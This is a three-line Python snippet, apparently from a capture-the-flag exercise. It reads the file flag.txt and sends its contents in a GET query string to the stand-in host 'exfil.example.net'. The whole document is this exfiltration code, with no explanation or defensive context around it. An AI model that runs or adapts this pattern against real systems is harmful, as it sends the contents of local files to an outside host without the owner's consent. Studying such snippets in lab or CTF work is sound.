from http.client import HTTPSConnection
c = HTTPSConnection("exfil.example.net")
c.request("GET", "/?d=" + open("flag.txt").read().strip())
